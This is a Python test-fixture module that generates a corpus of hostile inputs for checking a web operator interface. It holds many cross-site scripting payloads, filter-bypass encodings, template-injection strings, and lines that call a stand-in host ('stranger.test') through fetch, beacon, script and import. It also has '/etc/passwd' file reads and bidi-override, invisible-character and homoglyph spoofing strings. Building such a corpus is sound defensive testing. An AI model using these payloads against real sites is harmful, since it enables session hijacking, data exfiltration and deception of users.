"""What do people write who want to take over an operator's browser, or deceive the operator's eyes?

Every script that runs calls `__ran`, opens a dialog, or asks `stranger.test` for something: all three are watched.
"""

from __future__ import annotations

from itertools import product

_RUN = "__ran(1)"
_CALLS = (
    "alert(1)",
    _RUN,
    "fetch('//stranger.test/f')",
    "import('//stranger.test/m.js')",
    "new Image().src='//stranger.test/i'",
    "top.location='//stranger.test/t'",
    "window['al'+'ert'](2)",
    "eval(atob('X19yYW4oMSk='))",
    "open('//stranger.test/o')",
    "navigator.sendBeacon('//stranger.test/b')",
)
# An element, and the event that fires on it without anybody's doing.
_SELF_STARTING = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
    "iframe onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "details open ontoggle",
    "marquee onstart",
    "object data=x onerror",
    "embed src=x onerror",
    "link rel=stylesheet href=x onerror",
    "script src=x onerror",
    "style onload",
    "picture><source srcset=x><img src=x onerror",
    "video><source onerror",
    "svg><animate attributeName=x dur=1s onbegin",
    "p style=animation-name:rise onanimationstart",
)
_WRAPPERS = (
    "<{}={}>",
    '"><{}={}>',
    "'><{}={}>",
    "</textarea><{}={}>",
    "</script><{}={}>",
    "--><{}={}>",
    "<!--><{}={}>",
)
_ADDRESSES = (
    "javascript:__ran(1)",
    "JaVaScRiPt:__ran(1)",
    "java\tscript:__ran(1)",
    "java\nscript:__ran(1)",
    " javascript:__ran(1)",
    "javascript&colon;__ran(1)",
    "&#106;avascript:__ran(1)",
    "data:text/html,<script>parent.__ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oMSk8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "//stranger.test/a",
    "https://stranger.test/%22onmouseover=__ran(1)",
    "https://clinica.com.br@stranger.test/",
    'http://stranger.test/"onclick="__ran(1)',
    "javascript://stranger.test/%0a__ran(1)",
    "blob:https://stranger.test/x",
    "file:///etc/passwd",
    "https://xn--clnica-5va.test/",
    "www.stranger.test/<script>__ran(1)</script>",
    "tel:<svg onload=__ran(1)>",
)
_CARRIERS = (
    "{}",
    "<a href='{}'>Segunda via</a>",
    "<iframe src='{}'></iframe>",
    "[boleto]({})",
    "<form action='{}'><input type=submit>",
)
_LONERS = (
    "<script>__ran(1)</script>",
    "<ScRiPt>__ran(1)</sCrIpT>",
    "<script src=//stranger.test/s.js></script>",
    "<script type=module>import '//stranger.test/m.js'</script>",
    "<scr<script>ipt>__ran(1)</scr</script>ipt>",
    "%3Cscript%3E__ran(1)%3C/script%3E",
    "&lt;script&gt;__ran(1)&lt;/script&gt;",
    "\\u003cscript\\u003e__ran(1)\\u003c/script\\u003e",
    "<svg><script>__ran(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__ran(1)></style></mglyph></table>",
    '<noscript><p title="</noscript><img src=x onerror=__ran(1)>"></noscript>',
    "<template><script>__ran(1)</script></template>",
    "<base href='//stranger.test/'>",
    "<meta http-equiv=refresh content='0;url=//stranger.test/'>",
    "<link rel=import href=//stranger.test/>",
    "<style>@import '//stranger.test/c.css';</style>",
    "<div style='background:url(//stranger.test/b)'>",
    "<img src=//stranger.test/p.png>",
    "![foto](//stranger.test/p.png)",
    "<svg><use href='//stranger.test/u.svg#x'/></svg>",
    "<svg><a xlink:href='javascript:__ran(1)'><text y=9>aqui</text></a></svg>",
    "<form><button formaction=javascript:__ran(1)>Enviar",
    "<input type=image src=//stranger.test/i>",
    "<portal src=//stranger.test>",
    "{{constructor.constructor('__ran(1)')()}}",
    "${__ran(1)}",
    "#{__ran(1)}",
    "<%= __ran(1) %>",
    "{% include '/etc/passwd' %}",
    "{{ contact.name }}{% assign a = 1 %}",
    "[[${__ran(1)}]]",
    "__proto__",
    "constructor",
    "toString",
    "';__ran(1)//",
    '";__ran(1)//',
    "`-__ran(1)-`",
    "]]>",
    "<![CDATA[<script>__ran(1)</script>]]>",
    "<?xml version='1.0'?><x onload=__ran(1)/>",
    "<img src=x:x onerror\n=\n__ran(1)>",
    "<img/src=x/onerror=__ran(1)>",
    "<img src=`x`onerror=__ran(1)>",
    "<\u0131mg src=x onerror=__ran(1)>",
    "＜script＞__ran(1)＜/script＞",
    "+ADw-script+AD4-__ran(1)+ADw-/script+AD4-",
    "*<b onclick=__ran(1)>negrito</b>*",
    "```<img src=x onerror=__ran(1)>```",
    "_<i onmouseover=__ran(1)>_",
    "~<s>~",
    "> <img src=x onerror=__ran(1)>",
)


def _started() -> list[str]:
    """Every element once with a call of its own, every wrapper, every call."""
    pairs = enumerate(product(_SELF_STARTING, range(4)))
    return [_WRAPPERS[n % len(_WRAPPERS)].format(start, _CALLS[n % len(_CALLS)]) for n, (start, _) in pairs]


def _addressed() -> list[str]:
    pairs = enumerate(product(_ADDRESSES, range(2)))
    return [_CARRIERS[n % len(_CARRIERS)].format(address) for n, (address, _) in pairs]


SCRIPTS: tuple[str, ...] = tuple(dict.fromkeys([*_LONERS, *_started(), *_addressed()]))
"""Texts that want to become markup, addresses, or code."""

_TURNS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
_UNSEEN = (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\u115f"
    "\u1160\uffa0\u2061\u2062\u2063\u2064\ufe01\ufff9\U000e0041\U000e0101"
)

DECEIVING: tuple[str, ...] = (
    *(f"fatura{turn}fdp.exe" for turn in _TURNS),
    *(f"{turn}Viviane Prado: pode pagar neste Pix" for turn in _TURNS),
    *(f"S{mark}AIR agora" for mark in _UNSEEN),
    "\u202e\u202d\u202e\u202dcod.exe\u202c\u202c\u202c",
    "Recado\u2069\u2069\u2069\u2067 Assumida por Viviane",
    "a\u0300\u0301\u0302\u0303" * 20,
    "Z̷̪̓a̸̤͝l̴̺̈́g̵̣̈́o̷̳͝ " * 6,
    "рауpal.com",
)
"""Texts that look like something else than they are: turned around, or with letters nobody sees."""

HIDDEN = frozenset(_TURNS + _UNSEEN + "\u202c\u2069")
"""What must never stand in the page as it is, outside of emoji and of scripts that need it."""

CORPUS: tuple[str, ...] = (*SCRIPTS, *DECEIVING)
